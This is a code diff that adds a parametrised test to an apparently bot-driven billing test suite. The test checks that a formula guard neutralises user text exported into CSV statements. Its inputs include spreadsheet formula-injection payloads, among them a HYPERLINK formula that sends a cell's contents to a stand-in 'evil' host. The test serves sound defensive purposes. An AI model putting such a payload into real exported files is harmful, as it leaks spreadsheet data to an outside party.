@@ -10,6 +10,7 @@ from sqlalchemy import text
 
 from db.database import Database
 from db.models import ClientRole
+from desk.text.spreadsheets.formula_guard import guard_cell
 from tests.breadth import LANGUAGES
 from tests.flows.clients import directed, joined
 from tests.flows.paying import ADVANCE
@@ -63,6 +64,15 @@ async def test_a_director_gets_the_statement_of_a_month(stage: Stage, rita: Phon
     assert words(await rita.last()) == text_of("statement-nobody")
     await dora.writes("/balance statement november")
     assert words(await dora.last()) == text_of("usage-statement")
+
+
+@pytest.mark.parametrize("reason", ['ok;=HYPERLINK("http://evil/?"&A1;"x")', "＝1+1", "paid\n=1+1", "@SUM(A1)"])
+async def test_no_part_of_a_reason_is_a_formula(stage: Stage, rita: Phone, olga: Phone, reason: str) -> None:
+    dora, _, _ = await _moved(stage, rita, olga, reason)
+    await dora.writes(f"/balance statement {stage.clock():%Y-%m}")
+    _, table = await _contents(stage)
+    (found, *_) = [one["reason"] for one in csv.DictReader(io.StringIO(table.decode("utf-8-sig")))]
+    assert found == guard_cell(reason, ",") != reason
 
 
 async def _contents(stage: Stage) -> list[bytes]:
